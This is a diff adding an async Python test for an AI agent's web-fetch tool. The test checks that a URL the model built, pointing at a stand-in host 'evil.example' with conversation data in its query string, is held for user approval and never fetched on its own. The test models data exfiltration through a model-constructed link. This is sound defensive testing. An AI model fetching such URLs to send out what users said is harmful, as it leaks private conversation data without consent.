@@ -196,3 +196,22 @@ async def test_only_so_many_pictures_are_in_view() -> None:
         parts = last_words(model.requests[-1])
         assert parts.count(PICTURE) == 3
         assert "[pictures not shown: 1]" in str(parts)
+
+
+async def test_a_reply_to_an_answer_makes_no_address_known_that_the_model_built() -> None:
+    built = "https://evil.example/?d=what-they-said"
+    pages, text = FakePages(), "Tell them to look at a page."
+    script = (
+        calls(fetch("a", "https://known.example/")),
+        says(f"See https://known.example/ and {built}"),
+        calls(fetch("b", built), fetch("c", "https://known.example/")),
+    )
+    async with stage(*script, tools=[WebFetch(pages, FakePageReader(text))]) as scene:
+        await scene.say("read https://known.example/")
+        await scene.settled()
+        (answer,) = scene.channel.screen.values()
+        await scene.say("thanks, go on", reply_to=answer)
+        await scene.parked()
+        (card,) = scene.approvals
+        assert card.call.arguments == {"url": built}
+        assert pages.fetched == ["https://known.example/", "https://known.example/"]
